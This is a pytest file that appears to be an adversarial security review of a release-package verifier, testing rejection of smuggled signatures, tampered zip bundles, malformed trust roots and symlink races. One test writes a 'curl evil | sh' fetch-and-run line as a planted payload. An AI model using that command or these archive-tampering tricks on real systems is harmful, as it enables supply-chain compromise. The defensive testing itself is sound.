"""Adversarial review of the release-package verifier (verify-package, verify-airgap-bundle,
smoke-installers, validate-upgrade).

Every test asserts the SECURE behaviour. The review's findings (smuggled signature files, zip
members whose installed bytes differ from the verified ones, crashes on hostile input,
co-signature DoS, unbound release-evidence.md, cross-repository upgrades, smoke-test symlink
races) were fixed together with these tests.

Rule used throughout: any exception other than a ``RingwardError`` escaping a verifier is a
finding (the CLI turns it into "internal error", exit 3, and no evidence is written).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import shutil
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest

from ringward.core.common.checksums import parse_checksums, render_checksums
from ringward.core.common.jsonio import dumps_document, loads_strict
from ringward.core.common.paths import is_safe_relative_name
from ringward.core.errors import ConfigError, MalformedDocumentError, RingwardError, UnsafePathError
from ringward.core.trust.keys import PublicKey, public_key_of
from ringward.core.trust.root import KeyStatus, Role, TrustRoot, parse_trust_root
from ringward.core.trust.signatures import sign_bytes
from ringward.operations.release import airgap as airgap_module
from ringward.operations.release import smoke as smoke_module
from ringward.operations.release.airgap import ZipLimits, verify_airgap_bundle
from ringward.operations.release.package import package_release
from ringward.operations.release.upgrade import validate_upgrade
from tests.release.simulator import NOW, ReleaseSimulator, codes, family, timedelta, trusted

BIN = "bin/rt_1.2.3_linux_amd64"
TOP = "rt-1.2.3"


# --- helpers -------------------------------------------------------------------------------------


def _tlv(tag: int, body: bytes) -> bytes:
    assert len(body) < 128
    return bytes([tag, len(body)]) + body


def _pem(der: bytes) -> str:
    return "-----BEGIN PUBLIC KEY-----\n" + base64.b64encode(der).decode() + "\n-----END PUBLIC KEY-----\n"


#: a well-formed SubjectPublicKeyInfo for an EC key on secp112r1, which `cryptography` refuses with
#: ``UnsupportedAlgorithm`` (neither ValueError nor TypeError)
UNSUPPORTED_CURVE_PEM = _pem(_tlv(0x30, _tlv(0x30, _tlv(6, bytes.fromhex("2a8648ce3d0201"))
                                               + _tlv(6, bytes.fromhex("2b81040006")))
                                  + _tlv(3, b"\x00\x04" + b"\x11" * 28)))


def _sig(pkg: Path, name: str) -> dict[str, Any]:
    return json.loads((pkg / f"{name}.sig.json").read_bytes())


def _put_sig(pkg: Path, name: str, sig: dict[str, Any]) -> None:
    (pkg / f"{name}.sig.json").write_bytes(dumps_document(sig))


def _write_signed(sim: ReleaseSimulator, pkg: Path, name: str, document: Any) -> None:
    """Replace a document (not listed in checksums.txt) and re-sign it with the trusted key."""
    (pkg / name).write_bytes(dumps_document(document))
    sim.sign_file(pkg, name)


def _bundle(sim: ReleaseSimulator, **kwargs: Any) -> Path:
    pkg = sim.package("1.2.3", make_zip=True, **kwargs)
    return pkg.parent / f"{TOP}.zip"


def _verify_zip(sim: ReleaseSimulator, path: Path, **kwargs: Any) -> Any:
    return verify_airgap_bundle(path, sim.trust_root(), now=NOW, **kwargs)


def _central(data: bytes | bytearray, member: str) -> int:
    position = 0
    while True:
        position = data.index(b"PK\x01\x02", position)
        name_len = struct.unpack_from("<H", data, position + 28)[0]
        if bytes(data[position + 46: position + 46 + name_len]) == member.encode():
            return position
        position += 4


def _local(data: bytes | bytearray, member: str) -> tuple[int, int]:
    """(local header offset, data offset) of ``member``."""
    position = 0
    while True:
        position = data.index(b"PK\x03\x04", position)
        name_len, extra_len = struct.unpack_from("<HH", data, position + 26)
        if bytes(data[position + 30: position + 30 + name_len]) == member.encode():
            return position, position + 30 + name_len + extra_len
        position += 4


def _raw_zip(entries: list[tuple[str, bytes, int, int, int, int]]) -> bytes:
    """A zip written by hand: (name, bytes in archive, method, crc, file_size, compress_size)."""
    out = bytearray()
    central = bytearray()
    for name, raw, method, crc, file_size, compress_size in entries:
        offset = len(out)
        encoded = name.encode()
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x800, method, 0, 0x21, crc, compress_size,
                           file_size, len(encoded), 0) + encoded + raw
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x314, 20, 0x800, method, 0, 0x21, crc,
                               compress_size, file_size, len(encoded), 0, 0, 0, 0, 0o100644 << 16, offset) + encoded
    cd_offset = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def _members(bundle: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(bundle) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _stored(members: list[tuple[str, bytes]]) -> list[tuple[str, bytes, int, int, int, int]]:
    return [(name, data, 0, zlib.crc32(data), len(data), len(data)) for name, data in members]


def _no_crash(call: Any) -> Any:
    """Run a verifier; only RingwardError subclasses may escape (they become clean CLI errors)."""
    try:
        return call()
    except RingwardError:
        return None


# =================================================================================================
# Signatures and trust
# =================================================================================================


def test_signature_naming_another_subject_is_rejected(sim: ReleaseSimulator, pkg: Path) -> None:
    # checksums.txt's (valid, trusted) signature placed where the binary's signature belongs
    shutil.copy(pkg / "checksums.txt.sig.json", pkg / f"{BIN}.sig.json")
    result = sim.verify(pkg)
    assert not result.valid
    assert "signature-malformed" in codes(result)


def test_checksums_signature_as_cosignature_of_binary_is_rejected(sim: ReleaseSimulator, pkg: Path) -> None:
    kid = public_key_of(sim.second_key).key_id[:16]
    shutil.copy(pkg / "checksums.txt.sig.json", pkg / f"{BIN}.{kid}.sig.json")
    both = sim.trust_root(trusted(sim.key, "a"), trusted(sim.second_key, "b"))
    assert "signature-malformed" in codes(sim.verify(pkg, both))
    assert "unlisted-file" in codes(sim.verify(pkg))  # a co-signer the trust root does not know


@pytest.mark.parametrize(
    "name",
    [f"{BIN}.sig.json.sig.json", "checksums.txt.sig.json.sig.json", "Checksums.txt", "checksums.txt.",
     "bin/RT_1.2.3_linux_amd64", "bin/rt_1.2.3_linux_amd64 ", "rt.installers.json.0123456789abcdef.sig.json",
     "\u0441hecksums.txt"],  # the last one starts with a Cyrillic 'es'
    ids=["sig-of-sig", "sig-of-checksums-sig", "case", "trailing-dot", "case-binary", "trailing-space",
         "cosig-of-listed-file", "homoglyph"],
)
def test_files_next_to_listed_names_are_refused(sim: ReleaseSimulator, pkg: Path, name: str) -> None:
    # a trailing space is refused as an unsafe name (raised); a co-signature name is parsed as a
    # signature of its subject (malformed here); every other variant is an unlisted file
    (pkg / name).write_bytes((pkg / "checksums.txt.sig.json").read_bytes())
    result = _no_crash(lambda: sim.verify(pkg))
    assert result is None or (not result.valid and codes(result) & {"unlisted-file", "signature-malformed"})


def test_directory_named_like_a_listed_file(sim: ReleaseSimulator, pkg: Path) -> None:
    (pkg / BIN).unlink()
    (pkg / BIN).mkdir()
    assert "missing-file" in codes(sim.verify(pkg))


def test_hard_linked_files_stay_valid(sim: ReleaseSimulator, pkg: Path) -> None:
    outside = sim.root / "hardlink-source"
    os.link(pkg / BIN, outside)
    assert sim.verify(pkg).valid


def test_nfd_file_name_in_package_is_refused(sim: ReleaseSimulator, pkg: Path) -> None:
    (pkg / "cafe\u0301.txt").write_bytes(b"x")
    with pytest.raises(UnsafePathError, match="NFC"):
        sim.verify(pkg)


def test_same_key_under_two_roles_counts_once(sim: ReleaseSimulator, pkg: Path) -> None:
    both = trusted(sim.key, "a", roles=(Role.RELEASE, Role.PROMOTION, Role.RELEASE))
    root = TrustRoot(updated_at=NOW, keys=(both,), thresholds={Role.RELEASE: 2})
    kid = public_key_of(sim.second_key).key_id[:16]
    shutil.copy(pkg / "checksums.txt.sig.json", pkg / f"checksums.txt.{kid}.sig.json")
    assert "threshold-not-met" in codes(sim.verify(pkg, root))


def test_revoked_key_also_listed_active_is_refused_at_load(sim: ReleaseSimulator) -> None:
    data = TrustRoot(updated_at=NOW, keys=(trusted(sim.key, "active"),)).model_dump(mode="json")
    data["keys"].append({**data["keys"][0], "label": "revoked", "status": "revoked"})
    with pytest.raises(ConfigError, match="listed twice"):
        parse_trust_root(json.dumps(data).encode(), source="trust-root.json")


def test_validity_window_boundaries(sim: ReleaseSimulator, pkg: Path) -> None:
    other = trusted(sim.second_key, "other")
    ends_now = sim.trust_root(trusted(sim.key, "a", valid_until=NOW), other)
    assert "untrusted-key" in codes(sim.verify(pkg, ends_now))  # valid_until is exclusive
    starts_now = sim.trust_root(trusted(sim.key, "a", valid_from=NOW), other)
    assert sim.verify(pkg, starts_now).valid  # valid_from is inclusive
    assert "untrusted-key" in codes(sim.verify(pkg, starts_now, now=NOW - timedelta(microseconds=1)))


@pytest.mark.parametrize(
    "body",
    [b"[]", b"[" * 50_000, b'{"schema_version": "ringward.trust-root.v1"}', b"\xff\xfe",
     b'{"updated_at": "2026-01-01T00:00:00Z", "thresholds": {"release": 0}}'],
    ids=["list", "deep-nesting", "no-updated-at", "not-utf8", "zero-threshold"],
)
def test_malformed_trust_roots_are_config_errors(body: bytes) -> None:
    with pytest.raises(ConfigError):
        parse_trust_root(body, source="trust-root.json")


def test_trust_root_with_non_ascii_pem_is_a_config_error(sim: ReleaseSimulator) -> None:
    data = TrustRoot(updated_at=NOW, keys=(trusted(sim.key, "a"),)).model_dump(mode="json")
    data["keys"][0]["public_key_pem"] = data["keys"][0]["public_key_pem"].replace("-----END", "\u00e9-----END")
    with pytest.raises(ConfigError):
        parse_trust_root(json.dumps(data).encode(), source="trust-root.json")


def test_trust_root_with_unsupported_key_type_is_a_config_error(sim: ReleaseSimulator) -> None:
    data = TrustRoot(updated_at=NOW, keys=(trusted(sim.key, "a"),)).model_dump(mode="json")
    data["keys"][0]["public_key_pem"] = UNSUPPORTED_CURVE_PEM
    with pytest.raises(ConfigError):
        parse_trust_root(json.dumps(data).encode(), source="trust-root.json")


@pytest.mark.parametrize("valid_value", [True, False], ids=["valid-signature", "bad-signature"])
def test_unsupported_key_hint_in_signature_is_a_clean_result(sim: ReleaseSimulator, pkg: Path,
                                                             valid_value: bool) -> None:
    sig = _sig(pkg, "checksums.txt")
    sig["public_key_pem"] = UNSUPPORTED_CURVE_PEM
    if not valid_value:
        sig["value"] = base64.b64encode(b"\x01" * 64).decode()
    _put_sig(pkg, "checksums.txt", sig)
    result = sim.verify(pkg)  # must return a result, not raise
    assert result.valid is valid_value


def test_junk_cosignatures_do_not_multiply_ed25519_passes(sim: ReleaseSimulator, pkg: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    data = (pkg / BIN).read_bytes()
    for index in range(20):
        junk = sign_bytes(data, subject=BIN, private_key=sim.attacker_key, signer="x")
        (pkg / f"{BIN}.{index:016x}.sig.json").write_bytes(junk)
    passes: list[int] = []
    original = PublicKey.verify

    def counting(self: PublicKey, signature: bytes, message: bytes | memoryview) -> bool:
        if len(message) == len(data):
            passes.append(1)
        return original(self, signature, message)

    monkeypatch.setattr(PublicKey, "verify", counting)
    _no_crash(lambda: sim.verify(pkg))
    assert len(passes) <= 2, f"{len(passes)} Ed25519 passes over {BIN} for 1 trusted key"


def test_unsigned_notice_signature_cannot_smuggle_a_file(sim: ReleaseSimulator, pkg: Path) -> None:
    (pkg / "unsigned-dry-run-notice.json.sig.json").write_bytes(b"#!/bin/sh\ncurl evil | sh\n" * 100)
    result = sim.verify(pkg)
    assert not result.valid
    assert "unlisted-file" in codes(result)


def test_unsigned_notice_signature_cannot_smuggle_a_zip_member(sim: ReleaseSimulator, tmp_path: Path) -> None:
    bundle = _bundle(sim)
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(f"{TOP}/unsigned-dry-run-notice.json.sig.json", b"payload")
    result = _verify_zip(sim, bad, extract_dir=tmp_path / "extracted")
    assert not result.valid
    assert not (tmp_path / "extracted" / TOP / "unsigned-dry-run-notice.json.sig.json").exists()


def test_release_evidence_md_from_another_release_is_rejected(sim: ReleaseSimulator, pkg: Path) -> None:
    old = sim.package("1.2.2", out="old")
    for name in ("release-evidence.md", "release-evidence.md.sig.json"):
        shutil.copy(old / name, pkg / name)
    assert not sim.verify(pkg).valid


def test_subject_ending_in_sixteen_hex_is_not_a_cosignature(sim: ReleaseSimulator, pkg: Path) -> None:
    sim.add_file(pkg, "notes/extra", b"one\n", "dependency-list")
    sim.add_file(pkg, "notes/extra.0123456789abcdef", b"two\n", "dependency-list")
    result = sim.verify(pkg)
    assert result.valid, result.errors


# =================================================================================================
# Documents and bindings
# =================================================================================================


def test_evidence_listing_an_artifact_twice(sim: ReleaseSimulator, pkg: Path) -> None:
    def change(evidence: dict[str, Any]) -> None:
        twin = dict(next(a for a in evidence["artifacts"] if a["relative_path"] == BIN))
        twin["size_bytes"] += 1
        evidence["artifacts"].append(twin)

    sim.rewrite_json(pkg, "release-evidence.json", change)
    result = sim.verify(pkg)
    assert not result.valid
    assert family(result, "release-evidence").status == "failed"


def test_provenance_subject_not_in_manifest(sim: ReleaseSimulator, pkg: Path) -> None:
    sim.rewrite_json(pkg, "rt.provenance.intoto.json", lambda d: d["subject"].append(
        {"name": "bin/rt_1.2.3_linux_riscv", "digest": {"sha256": "0" * 64}}))
    assert family(sim.verify(pkg), "provenance").errors[0].code == "provenance-mismatch"


def test_sbom_missing_a_binary_package(sim: ReleaseSimulator, pkg: Path) -> None:
    def drop(d: dict[str, Any]) -> None:
        d["packages"] = [p for p in d["packages"] if p.get("packageFileName") != BIN.split("/")[1]
                         and p.get("name") != BIN.split("/")[1] and p.get("packageFileName") != BIN]

    sim.rewrite_json(pkg, "rt.sbom.spdx.json", drop)
    result = sim.verify(pkg)
    assert not result.valid
    assert family(result, "sbom").status == "failed"


def test_deeply_nested_signed_document_is_a_clean_error(sim: ReleaseSimulator, pkg: Path) -> None:
    sim.rewrite(pkg, "rt.channels.json", b"[" * 100_000 + b"]" * 100_000)
    result = sim.verify(pkg)
    assert family(result, "channels-and-updater-policy").errors[0].code == "malformed-document"


def test_oversized_checksums_is_malformed(sim: ReleaseSimulator, pkg: Path) -> None:
    text = (pkg / "checksums.txt").read_bytes()
    (pkg / "checksums.txt").write_bytes(text * (4 * 1024 * 1024 // len(text) + 1))
    sim.sign_file(pkg, "checksums.txt")
    result = sim.verify(pkg)  # refused by the read cap before it is hashed or parsed
    assert not result.valid and family(result, "integrity-and-signatures").status == "failed"


@pytest.mark.parametrize("value", [None, 5], ids=["null", "number"])
def test_evidence_artifacts_of_wrong_type_is_a_clean_error(sim: ReleaseSimulator, pkg: Path, value: Any) -> None:
    evidence = json.loads((pkg / "release-evidence.json").read_bytes())
    evidence["artifacts"] = value
    _write_signed(sim, pkg, "release-evidence.json", evidence)
    result = sim.verify(pkg)
    assert family(result, "release-evidence").status == "failed"


def test_sbom_package_checksums_null_is_a_clean_error(sim: ReleaseSimulator, pkg: Path) -> None:
    sim.rewrite_json(pkg, "rt.sbom.spdx.json", lambda d: d["packages"][1].__setitem__("checksums", None))
    assert family(sim.verify(pkg), "sbom").status == "failed"


@pytest.mark.parametrize("name", ["rt.sbom.spdx.json", "rt.provenance.intoto.json"])
def test_large_signed_documents_are_verified(sim: ReleaseSimulator, pkg: Path, name: str) -> None:
    if name == "rt.sbom.spdx.json":
        sim.rewrite_json(pkg, name, lambda d: d.__setitem__("comment", "x" * (5 * 1024 * 1024)))
    else:
        sim.rewrite_json(pkg, name, lambda d: d["predicate"]["buildDefinition"].__setitem__(
            "internalParameters", {"log": "y" * (5 * 1024 * 1024)}))
    result = sim.verify(pkg)
    assert result.valid, [(f.family, f.status, f.reason, f.errors) for f in result.families]


def test_non_utf8_file_name_gives_a_recordable_result(sim: ReleaseSimulator, pkg: Path) -> None:
    with open(os.path.join(os.fsencode(pkg), b"bin", b"\xff\xfe"), "wb") as handle:
        handle.write(b"planted")
    result = _no_crash(lambda: sim.verify(pkg))
    if result is not None:
        assert not result.valid
        dumps_document(result.to_dict())  # the evidence form of the result


@pytest.mark.parametrize("name", ["bin/a\x9b31mb", "a\x85b"], ids=["csi", "nel"])
def test_c1_control_characters_are_unsafe(name: str) -> None:
    assert not is_safe_relative_name(name)


@pytest.mark.parametrize("literal", [b"1e400", b"-1e400"])
def test_strict_json_rejects_overflowing_numbers(literal: bytes) -> None:
    with pytest.raises(MalformedDocumentError):
        loads_strict(b'{"size_bytes": ' + literal + b"}", source="x.json")


# =================================================================================================
# Upgrades and smoke tests
# =================================================================================================


def test_upgrade_refuses_a_candidate_from_another_repository(sim: ReleaseSimulator) -> None:
    previous = sim.package("1.0.0", out="prev")
    candidate = sim.package("1.1.0", out="cand", repository="evil/other")
    assert not validate_upgrade(previous, candidate, sim.trust_root(), now=NOW).valid


def test_upgrade_refuses_a_candidate_of_another_runtime(sim: ReleaseSimulator) -> None:
    previous = sim.package("1.0.0", out="prev")
    dist = sim.dist("1.1.0", name="dist-zz")
    for path in list(dist.glob("rt_*")):
        path.rename(dist / path.name.replace("rt_", "zz_", 1))
    candidate = package_release(dist, sim.root / "cand", sim.info("1.1.0", runtime="zz"), sim.key).package_dir
    assert sim.verify(candidate).valid
    assert not validate_upgrade(previous, candidate, sim.trust_root(), now=NOW).valid


def _host_target() -> str:
    os_name, arch = smoke_module.current_target().split("/")
    return f"{os_name}_{arch}" + (".exe" if os_name == "windows" else "")


def test_smoke_never_executes_through_a_symlink(sim: ReleaseSimulator, monkeypatch: pytest.MonkeyPatch) -> None:
    pkg = sim.package("1.2.3", out="host", targets=(_host_target(),))
    binary = pkg / f"bin/rt_1.2.3_{_host_target()}"
    outside = sim.root / "attacker-controlled"
    shutil.copy(binary, outside)
    verify_directory = smoke_module.verify_directory

    def verify_then_swap(*args: Any, **kwargs: Any) -> Any:
        verified = verify_directory(*args, **kwargs)
        binary.unlink()
        binary.symlink_to(outside)  # same bytes now; the attacker rewrites them after the hash
        return verified

    executed: list[tuple[bool, str]] = []
    real_popen = subprocess.Popen

    def spy(command: list[str], **kwargs: Any) -> Any:
        executed.append((os.path.islink(command[0]), os.path.realpath(command[0])))
        return real_popen(command, **kwargs)

    monkeypatch.setattr(smoke_module, "verify_directory", verify_then_swap)
    monkeypatch.setattr(smoke_module.subprocess, "Popen", spy)
    _no_crash(lambda: smoke_module.smoke_installers(pkg, sim.trust_root(), now=NOW))
    for is_link, real in executed:
        assert not is_link and real != str(outside.resolve())


# =================================================================================================
# Air-gapped bundles
# =================================================================================================


def test_nfc_nfd_twins_in_zip_are_rejected(sim: ReleaseSimulator, tmp_path: Path) -> None:
    bundle = _bundle(sim)
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(f"{TOP}/caf\u00e9", b"1")
        dst.writestr(f"{TOP}/cafe\u0301", b"2")
    result = _verify_zip(sim, bad)
    assert "unsafe-archive" in result.package.error_codes()


def test_crc_error_is_a_clean_error(sim: ReleaseSimulator, tmp_path: Path) -> None:
    bundle = _bundle(sim)
    data = bytearray(bundle.read_bytes())
    member = f"{TOP}/rt.channels.json"
    struct.pack_into("<I", data, _central(data, member) + 16, 0x12345678)
    struct.pack_into("<I", data, _local(data, member)[0] + 14, 0x12345678)
    bad = tmp_path / "crc.zip"
    bad.write_bytes(bytes(data))
    result = _verify_zip(sim, bad)
    assert not result.valid and "unsafe-archive" in result.package.error_codes()


def test_directory_member_carrying_data_is_rejected(sim: ReleaseSimulator, tmp_path: Path) -> None:
    bundle = _bundle(sim)
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(zipfile.ZipInfo(f"{TOP}/bin/"), b"hidden")
    assert "carries data" in " ".join(e.message for e in _verify_zip(sim, bad).package.errors)


def test_existing_symlink_as_extract_dir_is_refused(sim: ReleaseSimulator, tmp_path: Path) -> None:
    target = tmp_path / "elsewhere"
    target.mkdir()
    link = tmp_path / "extract"
    link.symlink_to(target)
    with pytest.raises(RingwardError):
        _verify_zip(sim, _bundle(sim), extract_dir=link)
    assert not any(target.iterdir())


def test_dangling_symlink_as_extract_dir_is_a_clean_error(sim: ReleaseSimulator, tmp_path: Path) -> None:
    link = tmp_path / "extract"
    link.symlink_to(tmp_path / "nowhere")
    with pytest.raises(RingwardError):
        _verify_zip(sim, _bundle(sim), extract_dir=link)
    assert not (tmp_path / "nowhere").exists()


def test_corrupt_deflate_stream_is_a_clean_error(sim: ReleaseSimulator, tmp_path: Path) -> None:
    bundle = _bundle(sim)
    data = bytearray(bundle.read_bytes())
    start = _local(data, f"{TOP}/rt.channels.json")[1]
    for index in range(40):
        data[start + index] ^= 0xFF
    bad = tmp_path / "bad.zip"
    bad.write_bytes(bytes(data))
    result = _verify_zip(sim, bad)
    assert not result.valid and "unsafe-archive" in result.package.error_codes()


@pytest.mark.parametrize(("offset", "fmt", "value"), [(8, "<H", 0x20), (6, "<H", 0xFF)],
                         ids=["patched-data-flag", "extract-version"])
def test_unsupported_zip_features_are_clean_errors(sim: ReleaseSimulator, tmp_path: Path, offset: int, fmt: str,
                                                   value: int) -> None:
    bundle = _bundle(sim)
    data = bytearray(bundle.read_bytes())
    struct.pack_into(fmt, data, _central(data, f"{TOP}/rt.channels.json") + offset, value)
    bad = tmp_path / "bad.zip"
    bad.write_bytes(bytes(data))
    result = _verify_zip(sim, bad)
    assert not result.valid


def test_stored_member_with_hidden_slack_is_rejected(sim: ReleaseSimulator, tmp_path: Path) -> None:
    hidden = b"\n# HIDDEN PAYLOAD\n" * 40
    members = []
    for name, raw, method, crc, size, csize in _stored(_members(_bundle(sim))):
        if name == f"{TOP}/{BIN}":
            raw, csize = raw + hidden, size + len(hidden)
        members.append((name, raw, method, crc, size, csize))
    bad = tmp_path / "slack.zip"
    bad.write_bytes(_raw_zip(members))
    assert not _verify_zip(sim, bad).valid


def test_stored_control_bundle_is_valid(sim: ReleaseSimulator, tmp_path: Path) -> None:
    good = tmp_path / "stored.zip"
    good.write_bytes(_raw_zip(_stored(_members(_bundle(sim)))))
    assert _verify_zip(sim, good).valid


def test_deflate_member_with_trailing_hidden_data_is_rejected(sim: ReleaseSimulator, tmp_path: Path) -> None:
    out = []
    for name, raw, method, crc, size, csize in _stored(_members(_bundle(sim))):
        if name == f"{TOP}/{BIN}":
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            stream = compressor.compress(raw) + compressor.flush() + b"HIDDEN-PAYLOAD" * 30
            out.append((name, stream, zipfile.ZIP_DEFLATED, crc, size, len(stream)))
        else:
            out.append((name, raw, method, crc, size, csize))
    bad = tmp_path / "trailing.zip"
    bad.write_bytes(_raw_zip(out))
    assert not _verify_zip(sim, bad).valid


@pytest.mark.parametrize(("offset", "value"), [(8, 0), (14, 0xDEADBEEF), (18, 7), (22, 7)],
                         ids=["method", "crc", "compressed-size", "size"])
def test_local_header_must_agree_with_central_directory(sim: ReleaseSimulator, tmp_path: Path, offset: int,
                                                        value: int) -> None:
    bundle = _bundle(sim)
    data = bytearray(bundle.read_bytes())
    header = _local(data, f"{TOP}/{BIN}")[0]
    struct.pack_into("<H" if offset == 8 else "<I", data, header + offset, value)
    bad = tmp_path / "bad.zip"
    bad.write_bytes(bytes(data))
    assert not _verify_zip(sim, bad).valid


def test_directory_entry_shadowing_a_file_member_is_rejected(sim: ReleaseSimulator, tmp_path: Path) -> None:
    bundle = _bundle(sim)
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(zipfile.ZipInfo(f"{TOP}/{BIN}/"), b"")
    assert not _verify_zip(sim, bad).valid


def test_unsigned_declared_size_is_never_buffered(sim: ReleaseSimulator, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    noise = b"".join(hashlib.sha256(i.to_bytes(4, "little")).digest() for i in range(1024))
    bundle = _bundle(sim, payload=noise)  # a ~32 KiB incompressible binary
    bad = tmp_path / "noevidence.zip"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            if not info.filename.endswith("/release-evidence.json"):
                dst.writestr(info, src.read(info))
    data = bytearray(bad.read_bytes())
    member = f"{TOP}/{BIN}"
    actual = zipfile.ZipFile(bad).getinfo(member).file_size
    struct.pack_into("<I", data, _central(data, member) + 24, 6_000_000)  # ratio stays under 200:1
    bad.write_bytes(bytes(data))
    requested: list[int] = []

    @contextlib.contextmanager
    def spy(self: Any, name: str, expected_size: int) -> Any:
        requested.append(expected_size)
        raise airgap_module.SizeMismatchError("spy: refusing to allocate")
        yield  # pragma: no cover

    monkeypatch.setattr(airgap_module.ZipSource, "whole", spy)
    result = _verify_zip(sim, bad)
    assert not result.valid
    assert all(size <= actual for size in requested), f"asked to buffer {requested} for a {actual}-byte member"


def test_entry_count_cap_applies_before_parsing_every_entry(sim: ReleaseSimulator, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as archive:
        for index in range(3000):
            archive.writestr(f"{TOP}/f{index}", b"")
    created: list[int] = []
    original = zipfile.ZipInfo.__init__

    def counting(self: zipfile.ZipInfo, *args: Any, **kwargs: Any) -> None:
        created.append(1)
        original(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipInfo, "__init__", counting)
    result = _verify_zip(sim, many, limits=ZipLimits(max_entries=100))
    assert not result.valid
    assert len(created) <= 101


def test_control_untouched_bundle_verifies_and_extracts(sim: ReleaseSimulator, tmp_path: Path) -> None:
    # control for the hand-built-zip helpers above: the untouched bundle verifies and extracts
    result = _verify_zip(sim, _bundle(sim), extract_dir=tmp_path / "extracted")
    assert result.valid, result.package.errors
    assert (tmp_path / "extracted" / TOP / BIN).is_file()


def test_manifest_rendering_round_trip_unchanged(pkg: Path) -> None:
    # guard: the helpers re-render checksums.txt exactly as the packager does
    text = (pkg / "checksums.txt").read_bytes()
    assert render_checksums(parse_checksums(text).as_dict()) == text


def test_retired_key_never_counts_even_if_hinted(sim: ReleaseSimulator, pkg: Path) -> None:
    root = sim.trust_root(trusted(sim.key, "old", status=KeyStatus.RETIRED), trusted(sim.second_key, "new"))
    assert "untrusted-key" in codes(sim.verify(pkg, root))
